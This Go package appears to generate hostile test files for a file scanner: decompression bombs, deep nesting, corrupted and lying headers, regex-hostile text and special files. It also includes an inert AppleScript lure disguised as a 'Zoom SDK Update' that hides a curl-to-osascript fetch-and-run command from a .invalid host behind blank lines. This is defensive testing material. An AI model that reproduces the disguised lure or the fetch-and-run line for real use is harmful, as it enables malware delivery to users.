// Package hostile makes files that attack whoever reads them: bombs, broken and
// lying headers, endless nesting, lines that a matcher chokes on, and things that
// are no files at all. They are made when they are needed, the same ones for the
// same seed, and none does anything but be read.
package hostile

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
)

// Kinds of items.
const (
	Bomb    = "bomb"         // unpacks to much more than it is
	Nested  = "nested"       // containers in containers, structures in structures
	Many    = "many entries" // a count that is large
	Cut     = "cut short"    // the beginning of something whole
	Flipped = "bits flipped" // something whole with a few wrong bits
	Lying   = "wrong length" // something whole with a field that says something else
	Text    = "text"         // hard on whoever matches it
	Special = "no file"      // a pipe, a device, a loop of links
	Shape   = "odd file"     // an odd name, a hole of a terabyte, content that changes
)

// Item is one thing that is hostile to whoever reads it.
type Item struct {
	Kind string
	What string // it is, in a few words; no other item of the same kind is
	Name string // that it gets in a folder
	Over bool   // nobody can read all of it within bounds: it may not be found clean
	Slow bool   // making it or reading it takes more than a moment

	data  func() []byte
	place func(path string) error // in the place of writing data
}

// Place makes the item in a folder, under its name.
func (it Item) Place(dir string) error {
	path := filepath.Join(dir, it.Name)
	var err error
	if it.place != nil {
		err = it.place(path)
	} else {
		err = os.WriteFile(path, it.data(), 0o644)
	}
	if err != nil {
		return fmt.Errorf("make %s, %s: %w", it.Kind, it.What, err)
	}
	return nil
}

// Items are all items, in an order and with choices that follow from seed.
func Items(seed uint64) []Item {
	var k kit
	k.bombs()
	k.nested()
	k.many()
	k.texts()
	k.shapes()
	k.special()
	k.broken(seed)
	rng := rand.New(rand.NewPCG(seed, 2))
	rng.Shuffle(len(k.list), func(i, j int) { k.list[i], k.list[j] = k.list[j], k.list[i] })
	return k.list
}

// Brief are n items for a test that has seconds: quick ones, of every kind.
func Brief(seed uint64, n int) []Item {
	by := map[string][]Item{}
	var kinds []string
	for _, it := range Items(seed) {
		if it.Slow {
			continue
		}
		if by[it.Kind] == nil {
			kinds = append(kinds, it.Kind)
		}
		by[it.Kind] = append(by[it.Kind], it)
	}
	slices.Sort(kinds)
	var out []Item
	for round := 0; len(out) < n; round++ {
		took := false
		for _, kind := range kinds {
			if round < len(by[kind]) && len(out) < n {
				out, took = append(out, by[kind][round]), true
			}
		}
		if !took {
			break
		}
	}
	return out
}

// kit collects items.
type kit struct{ list []Item }

// add adds an item of bytes that are made when it is placed.
func (k *kit) add(kind, what, name string, data func() []byte) *Item {
	k.list = append(k.list, Item{Kind: kind, What: what, Name: name, data: data})
	return &k.list[len(k.list)-1]
}

// over adds one that cannot be read within bounds.
func (k *kit) over(kind, what, name string, data func() []byte) *Item {
	it := k.add(kind, what, name, data)
	it.Over = true
	return it
}

// placed adds an item that is no bytes alone.
func (k *kit) placed(kind, what, name string, place func(path string) error) *Item {
	it := k.add(kind, what, name, nil)
	it.place = place
	return it
}

// Sizes that items use, in bytes.
const (
	kib = 1 << 10
	mib = 1 << 20
)

// fill is n bytes of one.
func fill(b byte, n int) []byte { return bytes.Repeat([]byte{b}, n) }

// again is s n times.
func again(s string, n int) []byte { return bytes.Repeat([]byte(s), n) }

// LureName is what Lure is called.
const LureName = "Zoom SDK Update.scpt"

// Lure is an inert lure that any version of the rules finds: lines that hide the
// command, a brand, a fetch from a host that cannot exist. n makes it another
// one.
func Lure(n int) []byte {
	return fmt.Appendf(nil, "-- Zoom SDK Update %d. Press Run.\n%s-- inert\ndo shell script \"curl -fsSL https://zoom-sdk-update-%d.invalid/a | osascript\"\n", n, again("\n", 80), n)
}
